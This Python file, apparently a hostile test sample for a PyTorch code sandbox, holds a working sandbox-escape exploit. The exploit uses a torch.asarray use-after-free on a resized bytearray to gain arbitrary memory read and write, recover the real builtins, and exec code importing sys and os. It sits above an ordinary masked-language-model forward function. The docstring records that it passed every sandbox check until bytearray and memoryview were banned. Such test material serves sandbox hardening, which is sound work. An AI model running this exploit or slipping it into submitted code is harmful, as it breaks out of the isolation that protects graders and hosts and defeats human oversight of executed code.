"""Hostile: torch.asarray(bytearray, dtype=...) builds a tensor over the bytearray's buffer through
the buffer protocol, as the forbidden torch.frombuffer does, and holds no buffer export, so the
bytearray stays resizable; bytearray.extend reallocates and frees the old buffer under the tensor: a
use-after-free, then any address and the real exec, as in
hostile_from_dlpack_resize_use_after_free.py. Accepted with every wall on, until bytearray and
memoryview were forbidden built-ins."""


import math
import operator

import numpy
import torch


def find_victim():
    for n in (8192, 16384, 4096, 2048):
        owner = bytearray(8 * n)
        window = torch.asarray(owner, dtype=torch.int64)  # a tensor over the bytearray's buffer, no export held
        owner.extend(bytes(1 << 22))  # the bytearray reallocates and frees the old buffer: window dangles
        victims = [torch.full((2,), 7, dtype=torch.int64) for _ in range(512)]
        pointers = {v.data_ptr(): v for v in victims}
        words = window.clone().tolist()  # a read of the freed buffer
        for i in range(len(words) - 2):
            if words[i] in pointers and words[i + 2] == words[i]:  # StorageImpl: data_, deleter, ctx_
                return window, pointers[words[i]], i, [victims, owner]
    raise RuntimeError("no victim found")


window, victim, slot, kept = find_victim()
home = victim.data_ptr()


def point(address):
    window[slot] = address


def read(address):
    point(address)
    return victim[0].item()


def write(address, value):
    point(address)
    victim[0] = value


builtins_address = read(id(torch.broadcast_shapes) + 24)  # PyFunctionObject.func_builtins
write(builtins_address, read(builtins_address) + 1)  # the reference the list below will own
box = [None]
write(read(id(box) + 24), builtins_address)  # box's only item is now the real builtins dict
point(home)
code = (
    "b = torch.broadcast_shapes.__globals__['__builtins__']\n"
    "sys = b['__import__']('sys'); os = b['__import__']('os')\n"
    "print('ESCAPED: real sys, modules:', len(sys.modules), 'pid', os.getpid(), 'eval', b['eval'])\n"
)
list(map(operator.call, map(dict.get, box, ["exec"]), [code]))  # C code takes the items: never checked


def layer_norm(x):
    mean = x.mean(dim=-1, keepdim=True)
    var = ((x - mean) ** 2).mean(dim=-1, keepdim=True)
    return (x - mean) / torch.sqrt(var + 1e-5)


def gelu(x):
    return 0.5 * x * (1.0 + torch.tanh(math.sqrt(2.0 / math.pi) * (x + 0.044715 * x**3)))


def softmax(scores):
    scores = scores - scores.amax(dim=-1, keepdim=True)
    e = torch.exp(scores)
    return e / e.sum(dim=-1, keepdim=True)


def attention(x, w_q, w_k, w_v, w_o, num_heads):
    n, t, d = x.shape
    d_head = d // num_heads
    q = (x @ w_q).view(n, t, num_heads, d_head).transpose(1, 2)
    k = (x @ w_k).view(n, t, num_heads, d_head).transpose(1, 2)
    v = (x @ w_v).view(n, t, num_heads, d_head).transpose(1, 2)
    scores = q @ k.transpose(-2, -1) / math.sqrt(d_head)
    out = softmax(scores) @ v
    return out.transpose(1, 2).reshape(n, t, d) @ w_o


def mlm_forward_tied(input_ids, w_emb, pos_embed, blocks_weights, mask_indicator, num_heads):
    x = w_emb[input_ids] + pos_embed
    for w_q, w_k, w_v, w_o, w_mlp1, w_mlp2 in blocks_weights:
        x = x + attention(layer_norm(x), w_q, w_k, w_v, w_o, num_heads)
        x = x + gelu(layer_norm(x) @ w_mlp1) @ w_mlp2
    hidden = x[mask_indicator > 0.5]
    return hidden @ w_emb.T
